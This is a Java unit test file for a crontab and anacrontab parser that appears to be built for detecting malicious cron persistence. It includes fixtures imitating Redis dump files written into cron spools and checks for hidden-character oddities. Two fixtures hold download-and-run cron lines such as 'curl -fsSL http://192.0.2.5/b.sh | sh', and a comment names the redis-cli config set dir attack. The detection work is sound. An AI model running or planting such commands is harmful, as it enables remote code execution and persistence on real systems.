package davy.core.persistence;

import static org.assertj.core.api.Assertions.assertThat;

import davy.core.persistence.CronTable.Entry;
import davy.core.persistence.CronTable.Line;
import davy.core.persistence.CronTable.Setting;
import davy.core.text.RawText;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

class CronTableTest {
    @Test
    void readsASystemTableAsDebianShipsIt() {
        var table =
                CronTable.parse(
                        "/etc/crontab",
                        """
                        # /etc/crontab: system-wide crontab
                        SHELL=/bin/sh
                        PATH = "/usr/local/sbin:/usr/bin"
                        MAILTO=""

                        # m h dom mon dow user  command
                        17 *    * * *   root    cd / && run-parts --report /etc/cron.hourly
                        25 6\t* * *\troot\ttest -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )
                        -*/15 * * * *   root  test -x /usr/lib/cron/run-crons && /usr/lib/cron/run-crons
                        @reboot mysql /usr/bin/x
                        """,
                        true);

        assertThat(table.settings())
                .containsExactly(
                        new Setting(2, "SHELL", "/bin/sh"),
                        new Setting(3, "PATH", "/usr/local/sbin:/usr/bin"),
                        new Setting(4, "MAILTO", ""));
        assertThat(table.entries()).extracting(Entry::line).containsExactly(7, 8, 9, 10);
        assertThat(table.entries())
                .extracting(Entry::user)
                .containsExactly("root", "root", "root", "mysql");
        assertThat(table.entries())
                .extracting(Entry::times)
                .containsExactly("17 *    * * *", "25 6\t* * *", "-*/15 * * * *", "@reboot");
        assertThat(table.entries().getFirst().command())
                .isEqualTo("cd / && run-parts --report /etc/cron.hourly");
        assertThat(table.comments()).extracting(Line::line).containsExactly(1, 6);
        assertThat(table.problems()).isEmpty();
        assertThat(table.dump()).isFalse();
    }

    @Test
    void partsCommandAndInputAtPercent() {
        var entries =
                CronTable.parse(
                                "/var/spool/cron/root",
                                "0 1 * * * date +\\%F > /x%one%two \\% b\n1 1 * * * a\r\n",
                                false)
                        .entries();

        assertThat(entries.get(0).command()).isEqualTo("date +%F > /x");
        assertThat(entries.get(0).input()).isEqualTo("one\ntwo % b");
        assertThat(entries.get(1).command()).isEqualTo("a");
        assertThat(entries.get(1).oddities()).isEmpty();
    }

    @Test
    void keepsWhatCronRefusesAsProblems() {
        var table =
                CronTable.parse(
                        "/etc/cron.d/x",
                        "99 * * * * root x\nhello\n* * * * *\n* * * * * root\n* * * * * root y",
                        true);

        assertThat(table.problems()).extracting(Line::line).containsExactly(1, 2, 3, 4);
        assertThat(table.entries()).extracting(Entry::command).containsExactly("y");
    }

    /// The bytes of `redis-cli config set dir /var/spool/cron` attacks: header, fields, a string
    /// value with line ends around the job, checksum.
    @Test
    void findsTheJobInADumpOfRedis() {
        byte[] bytes =
                RawText.encode(
                        "REDIS0009\uDCFA\tredis-ver\u00055.0.7\uDCFA\nredis-bits\uDCC0@\uDCFE\u0000\uDCFB\u0001\u0000\u0000\u0002x1@H\n\n\n"
                                + "*/2 * * * * root curl -fsSL http://192.0.2.5/b.sh | sh\n\n\n\uDCFF\u0000\u0012");
        var table = CronTable.parse("/var/spool/cron/root", RawText.decode(bytes), false);

        assertThat(table.dump()).isTrue();
        assertThat(table.binary()).isTrue();
        assertThat(table.entries()).hasSize(1);
        assertThat(table.entries().getFirst().command())
                .isEqualTo("root curl -fsSL http://192.0.2.5/b.sh | sh");
        assertThat(table.entries().getFirst().embedded()).isFalse();
    }

    @Test
    void findsAJobBehindGarbageOnItsLine() {
        var table =
                CronTable.parse(
                        "/var/spool/cron/root",
                        "REDIS0006\u0000\u0000k\uDCC3*/1 * * * * curl x|sh\n",
                        false);

        assertThat(table.entries()).hasSize(1);
        assertThat(table.entries().getFirst().embedded()).isTrue();
        assertThat(table.entries().getFirst().command()).isEqualTo("curl x|sh");
        assertThat(CronTable.parse("/x", "see 1 2 3 4 5 below", false).entries()).isEmpty();
    }

    @Test
    void tellsOddities() {
        assertThat(Oddity.in("* * * * * x; \u001B[2K\rno crontab for root"))
                .containsExactly(Oddity.CARRIAGE_RETURN, Oddity.CONTROL);
        assertThat(Oddity.in("0 0 * * * true" + " ".repeat(200) + "; x"))
                .containsExactly(Oddity.WIDE_BLANK);
        assertThat(Oddity.in("a\u0000b\uDC80")).containsExactly(Oddity.NUL, Oddity.BINARY);
        assertThat(Oddity.in("a\u202Eb")).containsExactly(Oddity.INVISIBLE);
        assertThat(Oddity.in("0 0 * * *\t\t\troot  \u4E2D\u6587 é\r")).isEmpty();
    }

    @Test
    void readsAnacron() {
        var table =
                CronTable.parseAnacron(
                        "/etc/anacrontab",
                        """
                        SHELL=/bin/sh
                        RANDOM_DELAY=45
                        1\t5\tcron.daily\t\tnice run-parts /etc/cron.daily
                        7 25 cron.weekly nice run-parts /etc/cron.weekly
                        @monthly 45 cron.monthly nice run-parts /etc/cron.monthly
                        x 1 y z
                        """);

        assertThat(table.entries())
                .extracting(Entry::schedule)
                .startsWith(new Schedule.Period(1), new Schedule.Period(7));
        assertThat(table.entries())
                .extracting(Entry::command)
                .contains("nice run-parts /etc/cron.monthly")
                .hasSize(3);
        assertThat(table.problems()).hasSize(1);
    }

    @Test
    void survivesHostileTables() {
        var random = new Random(20_260_101);
        List<String> pieces =
                List.of(
                        "* ",
                        "*/5 ",
                        "0 ",
                        "@reboot ",
                        "@",
                        "root ",
                        "\n",
                        "\r",
                        "\0",
                        "%",
                        "\\%",
                        "#",
                        "=",
                        "A=",
                        " ",
                        "\t",
                        "\uDC80",
                        "x",
                        "REDIS0009",
                        "1-",
                        ",",
                        "99");
        for (int i = 0; i < 3000; i++) {
            var text = new StringBuilder(random.nextInt(4) == 0 ? "REDIS0009\0" : "");
            for (int n = random.nextInt(200); n > 0; n--) {
                text.append(pieces.get(random.nextInt(pieces.size())));
            }
            assertThat(CronTable.parse("/x", text.toString(), random.nextBoolean()).truncated())
                    .isFalse();
            assertThat(CronTable.parseAnacron("/x", text.toString()).truncated()).isFalse();
        }
        for (String piece : pieces) {
            String text = "REDIS0009\0" + piece.repeat((1 << 20) / piece.length());
            long start = System.nanoTime();
            CronTable.parse("/x", text, true);
            assertThat((System.nanoTime() - start) / 1_000_000)
                    .as("ms for %s", piece)
                    .isLessThan(3000);
        }
        assertThat(CronTable.parse("/x", "* * * * * x\n".repeat(20_000), false).truncated())
                .isTrue();
    }

    @Test
    void readsOnBehindCommentsSettingsAndProblems() {
        String evil = "* * * * * root x\n";
        for (String line : List.of("# c\n", "A=b\n", "nonsense\n")) {
            var table = CronTable.parse("/etc/crontab", line.repeat(20_000) + evil, true);
            assertThat(table.entries()).as(line).extracting(Entry::line).containsExactly(20_001);
            assertThat(table.comments().size() + table.problems().size())
                    .as(line)
                    .isLessThanOrEqualTo(10_000);
        }
        String comments = "# c\n".repeat(20_000);
        assertThat(CronTable.parse("/etc/crontab", comments + evil, true).truncated()).isFalse();
        var jobs = CronTable.parse("/etc/crontab", evil.repeat(10_001), true);
        assertThat(jobs.entries()).hasSize(10_000);
        assertThat(jobs.truncated()).isTrue();
        assertThat(CronTable.parse("/etc/crontab", evil.repeat(10_000), true).truncated())
                .isFalse();
        var period =
                CronTable.parseAnacron("/etc/anacrontab", "# c\n".repeat(20_000) + "1 5 x y\n");
        assertThat(period.entries()).hasSize(1);
    }
}
